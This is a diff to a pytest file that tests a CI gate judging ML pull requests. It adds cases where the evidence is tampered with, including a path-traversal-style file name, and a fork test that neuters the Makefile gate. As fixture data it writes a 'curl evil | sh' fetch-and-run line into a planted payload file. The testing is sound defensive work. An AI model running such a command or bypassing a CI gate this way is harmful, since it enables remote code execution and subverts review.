@@ -11,11 +11,14 @@ artifact store are the stand-ins of act_harness.
 from __future__ import annotations
 
 import json
+import os
 import re
 import shutil
 import subprocess
 
 import pytest
+
+from mlproject.verdict.evidence import MAX_BYTES
 
 from .act_harness import SECRET, VENV, Sandbox, act_binary, git, seed_cache
 
@@ -41,6 +44,13 @@ def edit(sandbox: Sandbox, rel: str, old: str, new: str) -> str:
     text = (sandbox.work / rel).read_text()
     assert old in text, (rel, old)
     return text.replace(old, new, 1)
+
+
+def degraded(sandbox: Sandbox) -> str:
+    """params.yaml with a model too small to learn: one boosting round of two-leaf trees."""
+    text = edit(sandbox, "params.yaml", "max_iter: 150", "max_iter: 1")
+    assert "max_leaf_nodes: 31" in text
+    return text.replace("max_leaf_nodes: 31", "max_leaf_nodes: 2", 1)
 
 
 def judged(sandbox: Sandbox, pr: int, run) -> tuple[dict, str]:
@@ -103,7 +113,7 @@ def test_fork_pr_cannot_rewrite_its_own_verdict(sandbox):
     """A fork degrades the model and neuters the Makefile, pr.yml and the gate's code: the
     verdict comes from main's code, so the status is still failure, and the fork is told."""
     files = {
-        "params.yaml": edit(sandbox, "params.yaml", "max_iter: 150", "max_iter: 3"),
+        "params.yaml": degraded(sandbox),
         "Makefile": edit(sandbox, "Makefile", "\tmlproject judge --evidence build/evidence "
                          "--out reports/pr $(if", "\t-true || mlproject judge --evidence "
                          "build/evidence --out reports/pr $(if"),
@@ -169,7 +179,17 @@ def test_a_data_change_shows_at_the_top(sandbox):
     assert re.search(r"train −[\d,]+ rows \(−\d+\.\d %\)", top) and "holdout changed" in top, top
 
 
-@pytest.mark.parametrize("tamper", ["extra file", "not a number"])
+TAMPERS = {  # how the evidence is bent -> what the failing status says
+    "extra file": ("payload.sh", "found 'evidence.json', 'model.json', 'model.skops', "
+                   "'payload.sh'"),
+    "path traversal name": ("..evil.json", "found '..evil.json'"),
+    "oversized": (None, "over the"),
+    "not a number": (None, "not a finite number"),
+    "wrong row keys": (None, "fingerprint does not match its rows"),
+}
+
+
+@pytest.mark.parametrize("tamper", list(TAMPERS))
 def test_tampered_evidence_fails_with_one_line(sandbox, tamper):
     """The evidence of the last run, tampered with: a failing status naming the problem."""
     source = max((p for p in (sandbox.base / "runs").glob("*/evidence")
@@ -177,20 +197,25 @@ def test_tampered_evidence_fails_with_one_line(sandbox, tamper):
     forged = sandbox.base / "runs" / "999" / "evidence"
     shutil.rmtree(forged.parent, ignore_errors=True)
     shutil.copytree(source, forged)
-    evidence = json.loads((forged / "evidence.json").read_text())
-    if tamper == "extra file":
-        (forged / "payload.sh").write_text("curl evil | sh\n")
-    else:
-        text = (forged / "evidence.json").read_text().replace("0.", "NaN", 1)
-        (forged / "evidence.json").write_text(text)
+    file = forged / "evidence.json"
+    evidence = json.loads(file.read_text())
+    extra, expected = TAMPERS[tamper]
+    if extra:
+        (forged / extra).write_text("curl evil | sh\n")
+    elif tamper == "oversized":
+        os.truncate(file, MAX_BYTES + 1)
+    elif tamper == "not a number":
+        file.write_text(re.sub(r"(?<=:)0\.\d+", "NaN", file.read_text(), count=1))
+    else:  # the first row's key swapped for one main's holdout does not have
+        evidence["holdout"]["keys"][0] = 10**9
+        file.write_text(json.dumps(evidence))
     head = evidence["pr"]["head_sha"]
     fake = type("R", (), {"run_id": 999, "sha": head, "branch": "data", "fork": False,
                           "returncode": 0})()
     sandbox.verdict(fake)
     status, _ = judged(sandbox, 5, fake)
     assert status["state"] == "failure"
-    assert ("found 'evidence.json', 'model.json', 'model.skops', 'payload.sh'"
-            if tamper == "extra file" else "not a finite number") in status["description"]
+    assert expected in status["description"], status
 
 
 def test_print_timings():
